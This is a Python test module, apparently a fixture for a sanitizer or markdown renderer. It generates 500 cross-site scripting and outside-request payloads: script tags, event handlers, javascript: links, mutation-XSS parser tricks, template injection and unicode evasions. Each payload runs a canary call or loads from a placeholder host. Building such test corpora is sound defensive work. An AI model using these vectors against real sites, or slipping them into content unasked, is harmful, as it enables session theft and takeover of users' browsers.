@@ -1,0 +1,130 @@
+"""Five hundred things that run, or ask an outside host, where a page takes them for markup: a hundred ways, each in five
+wrappings. What runs calls `zq(n)`."""
+
+OUTSIDE = "https://outside.example/zq"
+
+# {run} is a call, {out} an outside address.
+WAYS = [
+    # scripts
+    "<script>{run}</script>",
+    "<ScRiPt>{run}</ScRiPt>",
+    "<script src={out}.js></script>",
+    "<script src=//outside.example/x></script>",
+    "<script type=module>{run}</script>",
+    "<script>/*<!--*/{run}//--></script>",
+    "<scr<script>ipt>{run}</scr</script>ipt>",
+    "<script\n>{run}</script\n>",
+    "<script/x>{run}</script>",
+    "<script async src=data:text/javascript,{run}></script>",
+    "<svg><script>{run}</script></svg>",
+    "<svg><script href={out}.js /></svg>",
+    "<math><script>{run}</script></math>",
+    "<template><script>{run}</script></template><script>{run}</script>",
+    '<noscript><p title="</noscript><script>{run}</script>">',
+    # event handlers
+    "<img src=x onerror={run}>",
+    '<img src=x onerror="{run}">',
+    "<img/src=x/onerror={run}//",
+    "<img src=x:x onerror\n=\n{run}>",
+    "<image src=x onerror={run}>",
+    "<svg onload={run}>",
+    "<svg/onload={run}>",
+    "<body onload={run}>",
+    "<body onpageshow={run}>",
+    "<input autofocus onfocus={run}>",
+    "<select autofocus onfocus={run}>",
+    "<textarea autofocus onfocus={run}>",
+    "<video onloadstart={run}><source>",
+    "<video src=x onerror={run}>",
+    "<audio src=x onerror={run}>",
+    "<details open ontoggle={run}>",
+    "<marquee onstart={run}>x</marquee>",
+    "<object data=x onerror={run}>",
+    "<iframe onload={run}></iframe>",
+    "<style onload={run}></style>",
+    "<link rel=stylesheet href=data:, onload={run}>",
+    "<script src=x: onerror={run}></script>",
+    "<div style='animation:zq 1s' onanimationstart={run}></div><style>@keyframes zq{{}}</style>",
+    "<div tabindex=0 autofocus onfocus={run}>x</div>",
+    "<a href=# autofocus onfocus={run}>x</a>",
+    "<svg><animate onbegin={run} attributeName=x dur=1s>",
+    "<p contenteditable autofocus onfocus={run}>",
+    "<img src onerror=&#x7a;q(0);{run}>",
+    # links and frames that run
+    "<a href=javascript:{run}>x</a>",
+    '<a href="java\tscript:{run}">x</a>',
+    '<a href="&#106;avascript:{run}">x</a>',
+    '<a href="\x01javascript:{run}">x</a>',
+    "<iframe src=javascript:{run}></iframe>",
+    '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
+    "<embed src=javascript:{run}>",
+    "<form action=javascript:{run}><button autofocus>x</button></form>",
+    "<button form=x formaction=javascript:{run}>x",
+    "<base href=javascript:/a/-{run}//><a href=x>x</a>",
+    "<svg><a xlink:href=javascript:{run}><text>x</text></a></svg>",
+    "[x](javascript:{run})",
+    "[x](data:text/html,<script>{run}</script>)",
+    '<https://x.example/?"onmouseover={run}>',
+    "<javascript:{run}>",
+    # outside requests
+    "<img src={out}.png>",
+    '<img srcset="{out}.png 1x">',
+    "<picture><source srcset={out}.png><img></picture>",
+    "<link rel=stylesheet href={out}.css>",
+    "<link rel=prefetch href={out}>",
+    "<link rel=icon href={out}.ico>",
+    "<style>@import url({out}.css);</style>",
+    "<style>body{{background:url({out}.png)}}</style>",
+    '<div style="background:url({out}.png)">x</div>',
+    "<video poster={out}.png src={out}.mp4></video>",
+    "<audio src={out}.mp3 autoplay></audio>",
+    "<iframe src={out}></iframe>",
+    "<object data={out}></object>",
+    "<embed src={out}>",
+    "<svg><image href={out}.svg /></svg>",
+    "<svg><use href={out}.svg#x /></svg>",
+    "<svg><feImage href={out}.png /></svg>",
+    "<input type=image src={out}.png>",
+    "<table background={out}.png><td>x</table>",
+    "<track src={out}.vtt>",
+    '<meta http-equiv=refresh content="0;url={out}">',
+    "![x]({out}.png)",
+    # what browsers rebuild (mXSS), and what breaks out
+    '<svg></p><style><a id="</style><img src=x onerror={run}>">',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;">',
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
+    '<noembed><img title="</noembed><img src=x onerror={run}>"></noembed>',
+    '<xmp><p title="</xmp><img src=x onerror={run}>">',
+    "<!--><img src=x onerror={run}>-->",
+    "<![CDATA[><img src=x onerror={run}>]]>",
+    "<?x ><img src=x onerror={run}>?>",
+    "<a title='*<img src=x onerror={run}>*'>**x**</a>",
+    "*<img src=x onerror=*{run}*>*",
+    # templates and other languages
+    "{{{{constructor.constructor('{run}')()}}}}",
+    "${{{run}}}",
+    "{{% include 'x' %}}<script>{run}</script>",
+    "<%= {run} %>",
+    "#{{{run}}}",
+    # unicode
+    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
+    "<\u200bimg src=x onerror={run}>",
+    "<img src=x on\u200berror={run}>",
+    "\u202e<img src=x onerror={run}>",
+    "<\u0130mg src=x onerror={run}>",
+]
+WRAPPINGS = [
+    "{0}",
+    "\"'><b>{0}",
+    "</textarea></title></style></script></p>{0}",
+    "> **{0}** https://x.example/{0}",
+    "- *{0}*\n- `{0}`",
+]
+
+
+def payload(n: int) -> str:
+    way, wrapping = WAYS[n % 100], WRAPPINGS[n // 100]
+    return wrapping.replace("{0}", way.format(run=f"zq({n})", out=f"{OUTSIDE}{n}"))
+
+
+COUNT = 500
